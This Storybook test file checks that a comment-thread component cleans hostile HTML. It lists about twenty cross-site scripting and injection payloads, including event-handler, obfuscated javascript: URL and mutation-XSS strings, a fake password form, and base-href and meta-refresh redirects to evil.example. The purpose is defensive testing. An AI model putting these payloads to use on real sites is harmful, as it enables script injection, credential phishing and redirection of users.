import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, userEvent, waitFor } from 'storybook/test'
import { wordsOf } from '../stories/wordsOf.ts'
import { CommentThread } from './CommentThread.tsx'

/** What attackers write into comments, each with a word that must stay readable. */
const attacks = [
  '<script>window.attacked = 1</script>kept-1',
  '<img src="data:image/png;base64,AAAA" onerror="window.attacked = 2">kept-2',
  '<svg onload="window.attacked = 3"><animate onbegin="window.attacked = 3"/></svg>kept-3',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=4&gt;"></table></mtext></math>kept-4',
  '<a href="javascript:window.attacked = 5">kept-5</a>',
  '<a href=" jAva&#x09;scr\nipt&colon;window.attacked = 6">kept-6</a>',
  '<a href="data:text/html,<script>window.attacked = 7</script>">kept-7</a>',
  '<iframe srcdoc="<script>parent.attacked = 8</script>"></iframe><object data="x"></object><embed src="x">kept-8',
  '<form action="https://evil.example"><input name="password" autofocus><button>Sign in</button></form>kept-9',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">kept-10</div>',
  '<style>body{display:none!important}</style><link rel="stylesheet" href="x">kept-11',
  '<div id="root" class="mantine-Modal-root" name="cookie">kept-12</div><img name="getElementById" id="location" src="data:,">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">kept-13',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=14>"></noscript>kept-14',
  '<details open ontoggle="window.attacked = 15"><summary>kept-15</summary></details>',
  '<template><script>window.attacked = 16</script></template><video src=x onerror="window.attacked = 16"></video>kept-16',
  '<b onmouseover="window.attacked = 17" tabindex="1" contenteditable data-mantine-x="1" aria-hidden="true">kept-17</b>',
  `<img src="data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.attacked=18"/>')}" width="99999" height="99999">kept-18`,
  '<a href="https://example.com" target="_top" onclick="window.attacked = 19" ping="https://evil.example">kept-19</a>',
  '<<img src=x onerror=window.attacked=20>script>kept-20',
  'kept-21<plaintext>lost',
]

const meta = {
  title: 'Components/CommentThread/Safety',
  component: CommentThread,
  tags: ['!autodocs'],
  args: {
    label: 'Comments',
    comments: attacks.map((postContent, index) => ({
      postId: `a${index}`,
      nickname: `Member ${index + 1}`,
      postTime: Date.UTC(2026, 2, 9, 14, index),
      postContent,
    })),
  },
} satisfies Meta<typeof CommentThread>
export default meta
type Story = StoryObj<typeof meta>

const ALLOWED_ATTRIBUTES = [...['href', 'src', 'alt', 'title', 'target', 'rel', 'loading', 'referrerpolicy']]

/** Content that the server gives later is cleaned like any other. */
export const HostileRevealedHtml: Story = {
  args: {
    comments: [{ postId: 'w', nickname: 'Mallory', postTime: 0, postContent: '', withheld: true }],
    reveal: { onReveal: async () => attacks.join('') },
  },
  play: async ({ canvas, canvasElement, globals }) => {
    const words = wordsOf(globals).comments
    await userEvent.click(canvas.getByRole('button', { name: new RegExp(words.showContent) }))
    await userEvent.type(canvas.getByRole('textbox'), 'Reported{Control>}{Enter}{/Control}')
    await expect(await canvas.findByText(/kept-10/)).toBeVisible()
    const content = canvasElement.querySelector('.mantine-CommentThread-content')
    await expect(content?.querySelector('script, style, iframe, form, [style], [id], [onclick]')).toBeNull()
    await expect((window as { attacked?: number }).attacked).toBeUndefined()
  },
}

/** Nothing that a comment holds runs, styles, submits, navigates or leaves its own box. */
export const HostileHtml: Story = {
  play: async ({ canvas, canvasElement }) => {
    await waitFor(() => expect(canvas.getByText(/kept-2$/)).toBeVisible())
    for (const [index] of attacks.entries()) {
      await expect(canvas.getByText(new RegExp(`kept-${index + 1}(?!\\d)`))).toBeVisible()
    }
    const articles = Array.from(canvasElement.querySelectorAll('article'))
    await expect(articles).toHaveLength(attacks.length)
    for (const article of articles) {
      const content = article.querySelector('.mantine-CommentThread-content')
      await expect(content).not.toBeNull()
      for (const element of content?.querySelectorAll('*') ?? []) {
        await expect(['A', 'B', 'DIV', 'IMG', 'P']).toContain(element.tagName)
        for (const { name } of element.attributes) await expect(ALLOWED_ATTRIBUTES).toContain(name)
        await expect(getComputedStyle(element).position).toBe('static')
        const box = element.getBoundingClientRect()
        await expect(box.width).toBeLessThanOrEqual(article.getBoundingClientRect().width)
      }
      for (const link of content?.querySelectorAll('a[href]') ?? []) {
        await expect(link.getAttribute('href')).toMatch(/^https:/)
        await expect(link).toHaveAttribute('target', '_blank')
        await expect(link.getAttribute('rel')).toContain('noopener')
      }
    }
    await expect((window as { attacked?: number }).attacked).toBeUndefined()
    await expect(document.querySelectorAll('base[href*="evil"], meta[http-equiv="refresh"]')).toHaveLength(0)
    await expect(typeof document.getElementById).toBe('function')
    await expect(document.body).toBeVisible()
  },
}
